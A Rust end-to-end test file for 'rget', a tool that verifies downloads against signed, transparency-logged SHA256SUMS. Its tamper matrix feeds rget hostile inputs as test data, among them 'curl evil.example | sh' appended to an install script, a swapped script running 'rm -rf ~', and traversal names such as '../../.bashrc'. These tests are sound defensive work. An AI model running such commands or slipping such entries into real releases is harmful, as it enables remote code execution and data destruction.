//! End-to-end tests of `rget get`, `verify`, `cat` and `submit` with real processes: a real
//! `rget log serve`, an HTTPS file server on loopback with a CA made by the test, `SHA256SUMS`
//! written by `rget sums` and signed as the `minisign` tool does (`tests/common/release.rs`).
//!
//! The tamper matrix: one table of attacks, each row naming the attack, the documented exit code and
//! the reason the one line on stderr must name; every row also asserts the destination not created
//! (or unchanged), and no temporary file left, neither beside the destination nor in `TMPDIR`.
//!
//! Each test, and each row of the matrix, builds its own world (log, file server, keys, state), so
//! they can tamper with what the servers answer without disturbing each other while they run in
//! parallel.

use crate::common::exit::{MALFORMED, NETWORK, NOT_FOUND, TRUST_ANOMALY, VERIFICATION_FAILED};
use crate::common::{
    assert_ok, assert_one_line_refusal, https, log as logc, parse_json, release, stderr, stdout,
};

use https::{Reply, TestServer, files_with_prefix};
use release::{ORIGIN, World, data, proof_index};
use rget::core::digest::sha256;
use rget::core::note::{self, SignerKey};
use rget::core::tlog_proof::TlogProof;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::{Duration, Instant};

const APP: &str = "app-1.0.tar.gz";

/// The checks every refusal must pass: the exit code, one line on stderr (`rget: ...`) containing
/// `word`, nothing on stdout, `dest` absent (or holding `before`), and no `.rget-` temporary file
/// beside it or in `TMPDIR`.
#[track_caller]
fn assert_refused(
    w: &World,
    o: &Output,
    code: i32,
    word: &str,
    dest: &Path,
    before: Option<&[u8]>,
) {
    assert_one_line_refusal(o, code, &[word]);
    match before {
        None => assert!(!dest.exists(), "{} must not be created", dest.display()),
        Some(b) => assert_eq!(std::fs::read(dest).expect("dest kept"), b, "dest changed"),
    }
    w.assert_no_temporaries(dest);
}

/// `rget get` of the release's app to `dest` with `extra` arguments, set up but not run (an attack
/// may point it at another policy or key).
fn get_app_to<'w>(
    w: &'w World,
    state: &Path,
    dest: &Path,
    extra: &[&str],
) -> release::ClientRun<'w> {
    let url = w.url(&w.rel.path(APP));
    let mut args = vec!["get", &url, "-o", dest.to_str().unwrap()];
    args.extend_from_slice(extra);
    w.client(state, &args)
}

/// The release key's ID as rget prints it, which must be exactly what minisign wrote in the `.pub`.
fn release_key_id(w: &World) -> String {
    let pub_text = std::fs::read_to_string(&w.key_pub).unwrap();
    let id = rget::core::minisig::PublicKey::parse(&pub_text)
        .unwrap()
        .key_id();
    let comment = pub_text.lines().next().unwrap();
    assert!(comment.ends_with(&format!(" {id}")), "{comment:?} vs {id}");
    id
}

// ---- happy paths ------------------------------------------------------------------------------

#[test]
fn get_saves_under_the_url_name_or_at_o_path() {
    let w = World::new();
    let (state, dl) = w.fresh("get");
    // Default: the URL's file name in the current directory.
    let o = w
        .client(&state, &["get", &w.url(&w.rel.path(APP))])
        .cwd(&dl)
        .run();
    assert_ok(&o);
    assert!(o.stdout.is_empty(), "the summary goes to stderr");
    let saved = dl.join(APP);
    assert_eq!(std::fs::read(&saved).unwrap(), w.rel.file(APP));
    let mode = std::fs::metadata(&saved).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o644);
    let err = stderr(&o);
    let digest = sha256(w.rel.file(APP)).to_hex();
    for want in [
        format!("rget: verified {APP} (300000 bytes)"),
        format!("sha256     {digest}"),
        format!("{ORIGIN} index 0 under checkpoint size 1 (SHA256SUMS.tlog-proof)"),
        "cosigned   by no witness".to_string(),
        "trusted on first use".to_string(),
        format!("listed in  {}", w.rel.sums_url),
    ] {
        assert!(err.contains(&want), "{want:?} not in:\n{err}");
    }
    // The signing key id of the release key.
    let key_id = release_key_id(&w);
    assert!(err.contains(&key_id), "key id {key_id} not in:\n{err}");
    assert!(!err.contains("UNSIGNED"), "{err}");

    // -o PATH, in another directory (its temporary file lives there).
    let sub = dl.join("bin");
    std::fs::create_dir(&sub).unwrap();
    let dest = sub.join("installer");
    let o = w.get_to(&state, &w.url(&w.rel.path("install.sh")), &dest);
    assert_ok(&o);
    assert_eq!(std::fs::read(&dest).unwrap(), w.rel.file("install.sh"));
    assert!(stderr(&o).contains("same checkpoint as last seen (size 1)"));
    // An existing destination is replaced by the verified file.
    std::fs::write(&dest, b"old").unwrap();
    assert_ok(&w.get_to(&state, &w.url(&w.rel.path("install.sh")), &dest));
    assert_eq!(std::fs::read(&dest).unwrap(), w.rel.file("install.sh"));
    assert!(files_with_prefix(&dl, ".rget-").is_empty());
    assert!(files_with_prefix(&sub, ".rget-").is_empty());
}

#[test]
fn verify_checks_a_file_on_disk() {
    let w = World::new();
    let (state, dl) = w.fresh("verify");
    let file = dl.join("download");
    std::fs::write(&file, w.rel.file(APP)).unwrap();
    let url = w.url(&w.rel.path(APP));
    let o = w
        .client(&state, &["verify", &url, file.to_str().unwrap()])
        .run();
    assert_ok(&o);
    assert!(stderr(&o).contains(&format!("rget: verified {APP}")));
    // No download of the file itself: only the sums, signature and proof were fetched.
    assert_eq!(w.srv.count(&w.rel.path(APP)), 0);

    // A file with other bytes fails, and is left as it was.
    let mut bad = w.rel.file(APP).to_vec();
    bad[1000] ^= 1;
    std::fs::write(&file, &bad).unwrap();
    let o = w
        .client(&state, &["verify", &url, file.to_str().unwrap()])
        .run();
    assert_refused(
        &w,
        &o,
        VERIFICATION_FAILED,
        "but SHA256SUMS lists",
        &file,
        Some(&bad),
    );
}

#[test]
fn cat_writes_exactly_the_verified_bytes_and_nothing_otherwise() {
    let w = World::new();
    let (state, dl) = w.fresh("cat");
    let o = w
        .client(&state, &["cat", &w.url(&w.rel.path(APP))])
        .cwd(&dl)
        .run();
    assert_ok(&o);
    assert!(o.stdout == w.rel.file(APP), "stdout is exactly the file");
    assert!(stderr(&o).contains(&format!("rget: verified {APP}")));
    assert!(files_with_prefix(&w.tmpdir, ".rget-").is_empty());
    assert!(
        std::fs::read_dir(&dl).unwrap().next().is_none(),
        "cat saves nothing"
    );

    // Tampered: not one byte reaches stdout.
    let mut bad = w.rel.file("install.sh").to_vec();
    bad.extend_from_slice(b"curl evil.example | sh\n");
    w.srv.route(&w.rel.path("install.sh"), Reply::body(&bad));
    let o = w
        .client(&state, &["cat", &w.url(&w.rel.path("install.sh"))])
        .cwd(&dl)
        .run();
    assert_refused(
        &w,
        &o,
        VERIFICATION_FAILED,
        "but SHA256SUMS lists",
        &dl.join("install.sh"),
        None,
    );
}

#[test]
fn without_a_proof_file_the_log_lookup_and_tiles_prove_it() {
    let w = World::new();
    w.srv
        .route(&w.rel.path("SHA256SUMS.tlog-proof"), Reply::status(404));
    let (state, dl) = w.fresh("lookup");
    let dest = dl.join("app");
    let o = get_app_to(&w, &state, &dest, &["--json"]).run();
    assert_ok(&o);
    assert_eq!(std::fs::read(&dest).unwrap(), w.rel.file(APP));
    let j = parse_json(stdout(&o).trim_end());
    assert_eq!(j["log"]["proof"], "lookup");
    assert_eq!(j["log"]["index"], 0);
    assert_eq!(j["log"]["checkpoint_size"], 1);
    assert_eq!(w.srv.count(&w.rel.path("SHA256SUMS.tlog-proof")), 1);
    // The checkpoint memory now holds the log's checkpoint.
    assert!(state.join("logs").read_dir().unwrap().next().is_some());
}

#[test]
fn json_is_one_object_with_the_digest_index_and_origin() {
    let w = World::new();
    let (state, dl) = w.fresh("json");
    let dest = dl.join(APP);
    let url = w.url(&w.rel.path(APP));
    let o = w
        .client(
            &state,
            &["get", &url, "-o", dest.to_str().unwrap(), "--json"],
        )
        .run();
    assert_ok(&o);
    let out = stdout(&o);
    assert!(out.ends_with('\n') && out.lines().count() == 1, "{out:?}");
    assert!(
        stderr(&o).is_empty(),
        "--json prints no summary: {}",
        stderr(&o)
    );
    let j = parse_json(out.trim_end());
    assert!(j.is_object());
    assert_eq!(j["verified"], true);
    assert_eq!(j["sha256"], sha256(w.rel.file(APP)).to_hex());
    assert_eq!(j["size"], w.rel.file(APP).len() as u64);
    assert_eq!(j["url"], url);
    assert_eq!(j["name"], APP);
    assert_eq!(j["path"], dest.to_str().unwrap());
    assert_eq!(j["sums_url"], w.rel.sums_url);
    assert_eq!(j["sums_sha256"], sha256(&w.rel.sums).to_hex());
    let log = &j["log"];
    assert_eq!(log["origin"], ORIGIN);
    assert_eq!(log["index"], proof_index(&w.rel.proof));
    assert_eq!(log["proof"], "tlog-proof");
    assert_eq!(log["cosigners"], serde_json::json!([]));
    let sig = &j["signature"];
    assert_eq!(sig["signed"], true);
    assert_eq!(sig["key_id"], release_key_id(&w));
    assert!(
        sig["trusted_comment"]
            .as_str()
            .unwrap()
            .contains("SHA256SUMS")
    );
}

#[test]
fn without_a_key_the_summary_says_unsigned() {
    let w = World::new();
    let (state, dl) = w.fresh("unsigned");
    let url = w.url(&w.rel.path(APP));
    let o = w.client(&state, &["get", &url]).cwd(&dl).no_key().run();
    assert_ok(&o);
    assert!(stderr(&o).contains("UNSIGNED"), "{}", stderr(&o));
    let o = w
        .client(
            &state,
            &["verify", &url, dl.join(APP).to_str().unwrap(), "--json"],
        )
        .no_key()
        .run();
    assert_ok(&o);
    let j = parse_json(stdout(&o).trim_end());
    assert_eq!(j["signature"]["signed"], false);
    // With no key, the signature is not even fetched.
    assert_eq!(w.srv.count(&w.rel.path("SHA256SUMS.minisig")), 0);
}

#[test]
fn checkpoint_memory_advances_as_the_log_grows() {
    let w = World::new();
    let (state, dl) = w.fresh("grow");
    let o = w
        .client(&state, &["get", &w.url(&w.rel.path(APP))])
        .cwd(&dl)
        .run();
    assert_ok(&o);
    assert!(stderr(&o).contains("first checkpoint of this log seen by this host (size 1)"));
    // The log grows: another release is recorded after the first.
    let v2 = w.publish("/v2", &[("app-2.0.tar.gz", data(5000, 2))], true);
    assert_eq!(proof_index(&v2.proof), 1);
    let o = w
        .client(&state, &["get", &w.url(&v2.path("app-2.0.tar.gz"))])
        .cwd(&dl)
        .run();
    assert_ok(&o);
    let err = stderr(&o);
    assert!(
        err.contains("consistent with the last checkpoint seen (size 1 -> 2)"),
        "{err}"
    );
    // The first release's proof file is under the older checkpoint: normal, tied to the newest.
    let o = w
        .client(&state, &["get", &w.url(&w.rel.path("NOTES.txt"))])
        .cwd(&dl)
        .run();
    assert_ok(&o);
    assert!(
        stderr(&o).contains("checkpoint of size 1 is consistent with the newest one seen (size 2)"),
        "{}",
        stderr(&o)
    );
}

// ---- the tamper matrix ------------------------------------------------------------------------

/// One attack on a published release, and how rget must refuse it.
struct Attack {
    /// What the attacker does; names the row when it fails.
    name: &'static str,
    /// The exit code rget must end with (README.md "Exit codes").
    code: i32,
    /// A fragment of the one-line error: the reason, named.
    says: &'static str,
    /// Sets the attack up in a fresh world and runs rget against it.
    run: for<'w> fn(&'w World) -> Attempt<'w>,
}

/// Every attack: each must end with its exit code and exactly one line on stderr naming the reason,
/// create nothing at the destination (or leave it as it was), and leave no temporary file.
const ATTACKS: &[Attack] = &[
    Attack {
        name: "artifact changed on the server",
        code: VERIFICATION_FAILED,
        says: "but SHA256SUMS lists",
        run: artifact_changed_on_the_server,
    },
    Attack {
        name: "SHA256SUMS changed after logging",
        code: VERIFICATION_FAILED,
        says: "not in the log",
        run: sums_changed_after_logging,
    },
    Attack {
        name: "SHA256SUMS never logged",
        code: NOT_FOUND,
        says: "not recorded in any trusted log",
        run: sums_never_logged,
    },
    Attack {
        name: "proof for another record",
        code: VERIFICATION_FAILED,
        says: "not in the log",
        run: proof_for_another_record,
    },
    Attack {
        name: "checkpoint signed by an unknown key",
        code: VERIFICATION_FAILED,
        says: "checkpoint",
        run: checkpoint_signed_by_an_unknown_key,
    },
    Attack {
        name: "bad signature by the known log key",
        code: VERIFICATION_FAILED,
        says: "invalid signature",
        run: bad_signature_by_the_known_log_key,
    },
    Attack {
        name: "quorum not met (proof file)",
        code: VERIFICATION_FAILED,
        says: "quorum not met",
        run: quorum_not_met_with_a_proof_file,
    },
    Attack {
        name: "quorum not met (log lookup)",
        code: VERIFICATION_FAILED,
        says: "quorum not met",
        run: quorum_not_met_through_the_lookup,
    },
    Attack {
        name: "rollback to an older checkpoint",
        code: TRUST_ANOMALY,
        says: "ROLLBACK",
        run: rollback_to_an_older_checkpoint,
    },
    Attack {
        name: "fork: two checkpoints of the same size",
        code: TRUST_ANOMALY,
        says: "FORK",
        run: fork_two_checkpoints_of_the_same_size,
    },
    Attack {
        name: "signature by the wrong key",
        code: VERIFICATION_FAILED,
        says: "not by the trusted key",
        run: signature_by_the_wrong_key,
    },
    Attack {
        name: "signature missing where a key applies",
        code: VERIFICATION_FAILED,
        says: "is missing",
        run: signature_missing_where_a_key_applies,
    },
    Attack {
        name: "file name absent from the SHA256SUMS",
        code: NOT_FOUND,
        says: "not listed",
        run: file_name_absent_from_the_sums,
    },
    Attack {
        name: "\"..\" name in the SHA256SUMS",
        code: MALFORMED,
        says: "\"..\" component",
        run: dotdot_name_in_the_sums,
    },
    Attack {
        name: "absolute name in the SHA256SUMS",
        code: MALFORMED,
        says: "absolute path",
        run: absolute_name_in_the_sums,
    },
    Attack {
        name: "redirect from https to http",
        code: VERIFICATION_FAILED,
        says: "redirect from https to http",
        run: https_to_http_redirect,
    },
    Attack {
        name: "body longer than --max-size",
        code: MALFORMED,
        says: "larger than the limit of 100000 bytes",
        run: body_longer_than_max_size,
    },
    Attack {
        name: "endless body",
        code: MALFORMED,
        says: "larger than the limit of 4000000 bytes",
        run: endless_body,
    },
    Attack {
        name: "body cut short",
        code: NETWORK,
        says: "cut short",
        run: body_cut_short,
    },
    Attack {
        name: "server never answers",
        code: NETWORK,
        says: "timed out",
        run: server_never_answers,
    },
];

/// The table, rows in parallel (each in its own world and its own thread, named after the row, so
/// a failure's panic message names it). `RGET_ATTACK=FRAGMENT` runs only the rows whose name
/// contains FRAGMENT.
#[test]
fn tamper_matrix() {
    let only = std::env::var("RGET_ATTACK").ok();
    let rows: Vec<&Attack> = ATTACKS
        .iter()
        .filter(|a| only.as_deref().is_none_or(|o| a.name.contains(o)))
        .collect();
    assert!(!rows.is_empty(), "no attack is named like {only:?}");
    let next = std::sync::atomic::AtomicUsize::new(0);
    let failed = std::sync::Mutex::new(Vec::new());
    std::thread::scope(|s| {
        for _ in 0..4 {
            s.spawn(|| {
                loop {
                    let i = next.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                    let Some(row) = rows.get(i) else { break };
                    let ran = std::thread::Builder::new()
                        .name(row.name.to_owned())
                        .spawn(|| attack(row))
                        .expect("spawn the row's thread")
                        .join();
                    if ran.is_err() {
                        failed.lock().unwrap().push(row.name);
                    }
                }
            });
        }
    });
    let failed = failed.into_inner().unwrap();
    assert!(
        failed.is_empty(),
        "attacks not refused as required (see their panics above): {failed:?}"
    );
}

/// Runs one row: the attack in a fresh world, then the checks every refusal must pass, then the
/// row's own.
fn attack(row: &Attack) {
    let w = World::new();
    let a = (row.run)(&w);
    assert_refused(&w, &a.out, row.code, row.says, &a.dest, a.before.as_deref());
    (a.then)(&a.out);
}

/// One run of rget against an attack.
struct Attempt<'w> {
    out: Output,
    /// The destination it was given: absent afterwards, or holding `before`.
    dest: PathBuf,
    before: Option<Vec<u8>>,
    /// Checks beyond the refusal itself (requests made, evidence kept, time taken).
    then: Box<dyn FnOnce(&Output) + 'w>,
}

impl<'w> Attempt<'w> {
    fn new(out: Output, dest: PathBuf) -> Attempt<'w> {
        Attempt {
            out,
            dest,
            before: None,
            then: Box::new(|_| {}),
        }
    }
    fn before(mut self, before: &[u8]) -> Self {
        self.before = Some(before.to_vec());
        self
    }
    fn then(mut self, checks: impl FnOnce(&Output) + 'w) -> Self {
        self.then = Box::new(checks);
        self
    }
}

/// `rget get` of the release's main file into a fresh directory, with a fresh state.
fn get_app(w: &World) -> Attempt<'_> {
    let (state, dl) = w.fresh("t");
    let dest = dl.join(APP);
    Attempt::new(w.get_to(&state, &w.url(&w.rel.path(APP)), &dest), dest)
}

fn artifact_changed_on_the_server(w: &World) -> Attempt<'_> {
    let mut bad = w.rel.file(APP).to_vec();
    bad[12345] ^= 0x80;
    w.srv.route(&w.rel.path(APP), Reply::body(&bad));
    let (state, dl) = w.fresh("t");
    let dest = dl.join(APP);
    // The destination already exists: it must stay as it was.
    std::fs::write(&dest, b"previous version").unwrap();
    let o = w.get_to(&state, &w.url(&w.rel.path(APP)), &dest);
    Attempt::new(o, dest).before(b"previous version")
}

fn sums_changed_after_logging(w: &World) -> Attempt<'_> {
    // The attacker swaps the artifact and lists its digest in SHA256SUMS, re-signing nothing.
    let evil = b"#!/bin/sh\nrm -rf ~\n".to_vec();
    let sums = String::from_utf8(w.rel.sums.clone()).unwrap().replace(
        &sha256(w.rel.file("install.sh")).to_hex(),
        &sha256(&evil).to_hex(),
    );
    assert_ne!(sums.as_bytes(), w.rel.sums);
    w.srv.route(&w.rel.path("SHA256SUMS"), Reply::body(&sums));
    w.srv.route(&w.rel.path("install.sh"), Reply::body(&evil));
    let (state, dl) = w.fresh("t");
    let dest = dl.join("install.sh");
    let o = w.get_to(&state, &w.url(&w.rel.path("install.sh")), &dest);
    Attempt::new(o, dest)
}

fn sums_never_logged(w: &World) -> Attempt<'_> {
    // Published and signed, but never submitted: no proof file, nothing in the log.
    let rel = w.publish("/unlogged", &[("tool", data(1000, 9))], false);
    let (state, dl) = w.fresh("t");
    let dest = dl.join("tool");
    let o = w.get_to(&state, &w.url(&rel.path("tool")), &dest);
    Attempt::new(o, dest)
}

fn proof_for_another_record(w: &World) -> Attempt<'_> {
    let other = w.publish("/other", &[("x", data(100, 3))], true);
    w.srv.route(
        &w.rel.path("SHA256SUMS.tlog-proof"),
        Reply::body(&other.proof),
    );
    get_app(w)
}

/// The release's proof file with its checkpoint note replaced by `f(note)`.
fn with_checkpoint(proof: &[u8], f: impl FnOnce(note::Note) -> Vec<u8>) -> Vec<u8> {
    let mut p = TlogProof::parse(proof).unwrap();
    p.checkpoint = f(note::parse(&p.checkpoint).unwrap());
    p.to_bytes()
}

fn checkpoint_signed_by_an_unknown_key(w: &World) -> Attempt<'_> {
    // Same name as the log, another key: the note carries no signature by a key the policy knows.
    let impostor = SignerKey::generate(ORIGIN).unwrap();
    let proof = with_checkpoint(&w.rel.proof, |n| note::sign(&n.text, &[&impostor]).unwrap());
    w.srv
        .route(&w.rel.path("SHA256SUMS.tlog-proof"), Reply::body(&proof));
    get_app(w).then(|o| assert!(stderr(o).contains("no valid signature"), "{}", stderr(o)))
}

fn bad_signature_by_the_known_log_key(w: &World) -> Attempt<'_> {
    let proof = with_checkpoint(&w.rel.proof, |mut n| {
        let s = n
            .signatures
            .iter_mut()
            .find(|s| s.name == ORIGIN)
            .expect("the log's signature");
        s.sig[7] ^= 0x01;
        n.to_bytes()
    });
    w.srv
        .route(&w.rel.path("SHA256SUMS.tlog-proof"), Reply::body(&proof));
    get_app(w)
}

fn quorum_not_met_with_a_proof_file(w: &World) -> Attempt<'_> {
    quorum_not_met(w, false)
}

fn quorum_not_met_through_the_lookup(w: &World) -> Attempt<'_> {
    quorum_not_met(w, true)
}

/// A policy requiring a witness that never cosigned: refused with the proof file, and on the lookup
/// route (no proof file), which is held to the same quorum.
fn quorum_not_met(w: &World, lookup: bool) -> Attempt<'_> {
    let witness = SignerKey::generate("w1").unwrap();
    let wkey = rget::core::cosignature::verifier_key(&witness);
    let policy = w.root.join("policy-witness");
    std::fs::write(
        &policy,
        format!(
            "log {} {}\nwitness w1 {wkey}\nquorum w1\n",
            w.vkey, w.log_url
        ),
    )
    .unwrap();
    if lookup {
        w.srv
            .route(&w.rel.path("SHA256SUMS.tlog-proof"), Reply::status(404));
    }
    let (state, dl) = w.fresh("t");
    let dest = dl.join(APP);
    let o = get_app_to(w, &state, &dest, &[]).policy(&policy).run();
    Attempt::new(o, dest)
}

/// Files of the evidence directories under `state/evidence`.
fn evidence(state: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for d in std::fs::read_dir(state.join("evidence")).expect("evidence dir") {
        let d = d.unwrap().path();
        for f in std::fs::read_dir(&d).unwrap() {
            out.push(f.unwrap().file_name().to_string_lossy().into_owned());
        }
    }
    out.sort();
    out
}

fn rollback_to_an_older_checkpoint(w: &World) -> Attempt<'_> {
    // A static copy of the log as it is now (size 1), served over HTTPS at /old-log/: checkpoint,
    // tiles, and the lookup answer for the release.
    w.srv.serve_dir("/old-log", &w.log_dir.join("public"));
    let lookup = logc::get(
        &logc::agent(),
        &format!("{}/lookup?url={}", w.log.base, logc::pct(&w.rel.sums_url)),
    );
    assert_eq!(lookup.status, 200);
    w.srv.route("/old-log/lookup", Reply::body(&lookup.body));
    let old_policy = w.root.join("policy-old-log");
    std::fs::write(
        &old_policy,
        format!("log {} {}\nquorum none\n", w.vkey, w.url("/old-log/")),
    )
    .unwrap();

    // The log grows to size 2, and this host sees it (through the lookup route: no proof file).
    w.publish("/v2", &[("b", data(10, 1))], true);
    w.srv
        .route(&w.rel.path("SHA256SUMS.tlog-proof"), Reply::status(404));
    let (state, dl) = w.fresh("t");
    let o = w.get_to(&state, &w.url(&w.rel.path(APP)), &dl.join("first"));
    assert_ok(&o);
    assert!(
        stderr(&o).contains("under checkpoint size 2"),
        "{}",
        stderr(&o)
    );

    // Now the log answers with its older checkpoint of size 1.
    let dest = dl.join(APP);
    let o = get_app_to(w, &state, &dest, &[]).policy(&old_policy).run();
    Attempt::new(o, dest).then(move |o| {
        assert!(stderr(o).contains("evidence"), "{}", stderr(o));
        assert_eq!(evidence(&state), ["new.checkpoint", "stored.checkpoint"]);
        assert_eq!(w.srv.count("/old-log/checkpoint"), 1);
    })
}

fn fork_two_checkpoints_of_the_same_size(w: &World) -> Attempt<'_> {
    // The real log: [release, v2]. This host sees it at size 2 (lookup route).
    w.publish("/v2", &[("b", data(10, 1))], true);
    w.srv
        .route(&w.rel.path("SHA256SUMS.tlog-proof"), Reply::status(404));
    let (state, dl) = w.fresh("t");
    assert_ok(&w.get_to(&state, &w.url(&w.rel.path(APP)), &dl.join("first")));

    // A second log with the SAME private key: [something else, release], also size 2.
    let fork_parent = w.dir("fork");
    let fork_dir = fork_parent.join("log");
    logc::init_log_with_key(&fork_dir, ORIGIN, &w.log_dir.join("log.key"));
    let fork = logc::Server::start(&fork_dir, &["--batch-delay", "10"]);
    let a = logc::agent();
    let other = logc::submit(
        &a,
        &fork.base,
        &w.url("/elsewhere/SHA256SUMS"),
        &logc::sums(7),
    );
    assert_eq!(other.status, 200, "{}", other.text());
    let forked = logc::submit(&a, &fork.base, &w.rel.sums_url, &w.rel.sums);
    assert_eq!(forked.status, 200, "{}", forked.text());
    assert_eq!(proof_index(&forked.body), 1);

    // Its proof, served as the release's: validly signed by the log's key, same size, other root.
    w.srv.route(
        &w.rel.path("SHA256SUMS.tlog-proof"),
        Reply::body(&forked.body),
    );
    let dest = dl.join(APP);
    let o = w.get_to(&state, &w.url(&w.rel.path(APP)), &dest);
    Attempt::new(o, dest).then(move |o| {
        assert!(stderr(o).contains("same size"), "{}", stderr(o));
        assert_eq!(evidence(&state), ["new.checkpoint", "stored.checkpoint"]);
    })
}

fn signature_by_the_wrong_key(w: &World) -> Attempt<'_> {
    let (other_pub, _) = w.minisign.keypair(&w.root.join("other-keys"), "other");
    let (state, dl) = w.fresh("t");
    let dest = dl.join(APP);
    let o = get_app_to(w, &state, &dest, &[]).key(&other_pub).run();
    Attempt::new(o, dest)
}

fn signature_missing_where_a_key_applies(w: &World) -> Attempt<'_> {
    w.srv
        .route(&w.rel.path("SHA256SUMS.minisig"), Reply::status(404));
    get_app(w)
}

fn file_name_absent_from_the_sums(w: &World) -> Attempt<'_> {
    w.srv.route(&w.rel.path("extra.bin"), Reply::body(b"extra"));
    let (state, dl) = w.fresh("t");
    let dest = dl.join("extra.bin");
    let o = w.get_to(&state, &w.url(&w.rel.path("extra.bin")), &dest);
    // The file streams while its SHA256SUMS is checked (one round trip instead of four), so it
    // may have been requested, once; what matters is that nothing of it is left (checked above).
    Attempt::new(o, dest).then(|_| {
        assert!(
            w.srv.count(&w.rel.path("extra.bin")) <= 1,
            "requested at most once"
        );
    })
}

/// Serves at `/evil/` a SHA256SUMS listing `name` and the file `app` (the log would refuse it, so
/// it is not logged), and runs `get` for `app`.
fn sums_with_name<'w>(w: &'w World, name: &str) -> Attempt<'w> {
    let body = b"payload".to_vec();
    let d = sha256(&body).to_hex();
    w.srv.route(
        "/evil/SHA256SUMS",
        Reply::body(format!("{d}  app\n{d}  {name}\n")),
    );
    w.srv.route("/evil/app", Reply::body(&body));
    let (state, dl) = w.fresh("t");
    let dest = dl.join("app");
    let o = w.get_to(&state, &w.url("/evil/app"), &dest);
    Attempt::new(o, dest)
}

fn dotdot_name_in_the_sums(w: &World) -> Attempt<'_> {
    sums_with_name(w, "../../.bashrc")
}

fn absolute_name_in_the_sums(w: &World) -> Attempt<'_> {
    sums_with_name(w, "/etc/profile")
}

fn https_to_http_redirect(w: &World) -> Attempt<'_> {
    // The right bytes, even: the transport downgrade alone is refused, also with --allow-http.
    let plain = TestServer::http();
    plain.route("/app", Reply::body(w.rel.file(APP)));
    w.srv
        .route(&w.rel.path(APP), Reply::redirect(&plain.url("/app")));
    get_app(w).then(move |_| {
        assert_eq!(plain.count("/app"), 0, "the http URL is never requested");
    })
}

fn body_longer_than_max_size(w: &World) -> Attempt<'_> {
    let (state, dl) = w.fresh("t");
    let dest = dl.join(APP);
    let o = get_app_to(w, &state, &dest, &["--max-size", "100000"]).run();
    Attempt::new(o, dest)
}

fn endless_body(w: &World) -> Attempt<'_> {
    w.srv.route(&w.rel.path(APP), Reply::Endless);
    let (state, dl) = w.fresh("t");
    let dest = dl.join(APP);
    let o = get_app_to(w, &state, &dest, &["--max-size", "4000000"]).run();
    Attempt::new(o, dest)
}

fn body_cut_short(w: &World) -> Attempt<'_> {
    let body = w.rel.file(APP);
    w.srv.route(
        &w.rel.path(APP),
        Reply::CutShort {
            declared: body.len() as u64,
            body: body[..body.len() / 2].to_vec(),
        },
    );
    get_app(w).then(|_| {
        // A failure in transit is retried (3 attempts), each into an emptied temporary file.
        assert_eq!(w.srv.count(&w.rel.path(APP)), 3);
    })
}

fn server_never_answers(w: &World) -> Attempt<'_> {
    w.srv.route(&w.rel.path(APP), Reply::Hang);
    let (state, dl) = w.fresh("t");
    let dest = dl.join(APP);
    let start = Instant::now();
    let o = get_app_to(w, &state, &dest, &["--timeout", "1"]).run();
    let took = start.elapsed();
    Attempt::new(o, dest).then(move |_| {
        // Three attempts of one second each, with backoff: far from the 60 s default.
        assert!(took < Duration::from_secs(30), "{took:?}");
        assert_eq!(w.srv.count(&w.rel.path(APP)), 3);
    })
}

// ---- submit -----------------------------------------------------------------------------------

#[test]
fn submit_writes_a_verifying_proof_beside_the_file_and_is_idempotent() {
    let w = World::new();
    // World::new already ran `rget submit` for /rel; here a new release, submitted by hand.
    let dir = w.dir("pub-sub");
    std::fs::write(dir.join("tool"), data(2000, 5)).unwrap();
    let sums_path = dir.join("SHA256SUMS");
    let o = w
        .command(&w.root)
        .args(["sums", "-o"])
        .arg(&sums_path)
        .arg(dir.join("tool"))
        .output()
        .unwrap();
    assert_ok(&o);
    let sums = std::fs::read(&sums_path).unwrap();
    let url = w.url("/sub/SHA256SUMS");
    let pstate = w.dir("state-publisher");
    let o = w.submit(&url, &sums_path, &pstate);
    assert_ok(&o);
    let proof_path = dir.join("SHA256SUMS.tlog-proof");
    let proof = std::fs::read(&proof_path).expect("proof written beside --file");
    let index = proof_index(&proof);
    assert_eq!(index, 1, "after the release of World::new");
    assert!(
        stderr(&o).contains(&format!("is in {ORIGIN} at index {index}")),
        "{}",
        stderr(&o)
    );
    assert!(files_with_prefix(&dir, ".SHA256SUMS.tlog-proof.tmp").is_empty());

    // The proof verifies offline, for exactly this URL and these bytes, under the policy.
    let policy =
        rget::core::policy::Policy::parse(&std::fs::read_to_string(&w.policy).unwrap()).unwrap();
    let logged = rget::core::verify::verify_logged_sums(&policy, &url, &sums, &proof).unwrap();
    assert_eq!(logged.index, index);
    assert!(
        rget::core::verify::verify_logged_sums(&policy, &w.rel.sums_url, &sums, &proof).is_err()
    );

    // ... and through `rget get`, served next to the SHA256SUMS.
    w.srv.route("/sub/SHA256SUMS", Reply::body(&sums));
    w.srv
        .route("/sub/SHA256SUMS.tlog-proof", Reply::body(&proof));
    w.srv.route("/sub/tool", Reply::body(data(2000, 5)));
    let (state, dl) = w.fresh("sub");
    let o = w
        .client(&state, &["get", &w.url("/sub/tool")])
        .cwd(&dl)
        .no_key()
        .run();
    assert_ok(&o);
    assert!(stderr(&o).contains(&format!("index {index} under checkpoint size 2")));

    // Submitting the same file again returns the same index.
    std::fs::remove_file(&proof_path).unwrap();
    let o = w.submit(&url, &sums_path, &pstate);
    assert_ok(&o);
    let again = std::fs::read(&proof_path).expect("proof written again");
    assert_eq!(proof_index(&again), index);
    assert!(stderr(&o).contains(&format!("at index {index}")));

    // -o writes elsewhere.
    let elsewhere = w.root.join("elsewhere.proof");
    let o = w
        .command(&w.root)
        .args(["submit", &url, "--file"])
        .arg(&sums_path)
        .arg("-o")
        .arg(&elsewhere)
        .args(["--log", &w.log_url, "--policy"])
        .arg(&w.policy)
        .args(["--allow-http", "--state"])
        .arg(&pstate)
        .output()
        .unwrap();
    assert_ok(&o);
    assert_eq!(proof_index(&std::fs::read(&elsewhere).unwrap()), index);
}

/// A file over plain http with `--allow-http`: its `SHA256SUMS` next to it would be an http URL,
/// which no log records, so the refusal (exit 2, before anything is fetched) says to give `--sums`
/// the https URL of the `SHA256SUMS`.
#[test]
fn an_http_file_needs_an_https_sums_and_the_error_says_so() {
    let t = crate::common::tempdir();
    let (_, vkey) = crate::common::log::init_log(t.path(), "http-file.example/log");
    let policy = t.path().join("policy");
    std::fs::write(
        &policy,
        format!("log {vkey} https://log.example/\nquorum none\n"),
    )
    .unwrap();
    let out = crate::common::output(
        std::process::Command::new(crate::common::RGET)
